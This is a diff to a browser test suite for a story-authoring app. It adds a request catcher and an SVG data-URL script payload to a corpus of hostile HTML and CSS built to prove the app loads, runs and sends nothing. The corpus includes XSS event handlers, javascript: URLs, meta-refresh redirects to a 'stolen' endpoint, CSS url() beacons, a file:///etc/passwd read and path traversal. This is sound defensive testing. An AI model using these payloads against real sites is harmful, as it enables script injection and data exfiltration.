@@ -2,10 +2,11 @@
  * A story made to get out: its stylesheet, texts, names and file names try to reach the network, the window and the file system. It is
  * imported, shown in every view and played; nothing of it is loaded, run or opened. And a story whose sounds may be heard.
  */
-import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { afterAll, afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { PROJECT_RECORD_ID } from '../../shared/model/kinds/project.ts';
 import { launchApp, type TestApp } from './app.ts';
 import { createBackendCall } from './backend-call.ts';
+import { hostileStyles, openRequestCatcher } from './hostile-content.ts';
 import { createProject, goToProjectList } from './user-steps.ts';
 
 let app: TestApp;
@@ -17,7 +18,11 @@ beforeEach(async () => {
 afterEach(() => app?.close());
 
 const uuid = (last: number) => `00000000-0000-4000-8000-${String(last).padStart(12, '0')}`;
-const away = 'https://example.com/stolen';
+/** What it would reach; hostile-content.browser.test.ts is the control. */
+const catcher = await openRequestCatcher();
+afterAll(() => catcher.close());
+const away = `${catcher.origin}/stolen`;
+const svgInUrl = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.taken=1</script><image href="${away}/svg"/></svg>`)}`;
 const takes = 'parent.document.title=document.title=`taken`;window.taken=1';
 
 const hostileTexts = [
@@ -29,6 +34,7 @@ const hostileTexts = [
   `<p><form action="${away}"><input autofocus onfocus="${takes}"><button formaction="javascript:${takes}">Six</button></form></p>`,
   `<p><meta http-equiv="refresh" content="0;url=${away}"><base href="${away}/">Seven</p>`,
   `<p><video src="${away}.mp4" autoplay></video><audio src="${away}.mp3" autoplay></audio>Eight</p>`,
+  `<p><img src="${svgInUrl}"><iframe src="${svgInUrl}"></iframe><a href="${svgInUrl}">Nine</a></p>`,
 ];
 const hostileNames = [
   `"><img src=x onerror="${takes}">`,
@@ -37,16 +43,16 @@ const hostileNames = [
   '\\\\server\\share\\x.png',
   `</style><script>${takes}</script>`,
 ];
-const hostileSheet = `
-  @import url("${away}.css");
+const hostileSheet = `${hostileStyles(away)}
   @font-face { font-family: stolen; src: url("${away}.woff2"); }
   * { background: url("${away}.png"), url("file:///etc/passwd"), url("/file/x/..%2f..%2fetc%2fpasswd"); font-family: stolen; cursor: url("${away}.cur"), auto; }
   html { position: fixed; inset: -9999px; z-index: 2147483647; }
   body::before { content: url("${away}.before.png"); position: fixed; inset: -9999px; }
   [data-theme^="d"] { list-style-image: url("${away}?theme=d"); }
+  body:has(b) { background-image: url("${away}?has=b"), url("${svgInUrl}"); }
   </style><script>${takes}</script>`;
 
-const words = ['One', 'Two', 'Three', 'Four', 'Five', 'Six', 'Seven', 'Eight'];
+const words = ['One', 'Two', 'Three', 'Four', 'Five', 'Six', 'Seven', 'Eight', 'Nine'];
 /** The same as words, as someone writes who hopes that they are read twice; and links, which a story may have. */
 const passing = hostileTexts.map(
   (text, at) => `<p><b>${words[at]}</b> <a href="${away}/${at}">a link</a> ${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p>`,
@@ -178,6 +184,7 @@ describe('a malicious story', () => {
       if (at < passing.length - 1) await page.getByRole('list', { name: 'Choices' }).getByRole('button').first().click();
     }
     expect(went).toEqual([]);
+    expect(catcher.requests).toEqual([]);
     expect(new URL(page.url()).host).toBe(own.host);
     expect(await page.evaluate(() => document.querySelector('iframe.play-page')?.getAttribute('sandbox'))).toBe('allow-same-origin');
   });
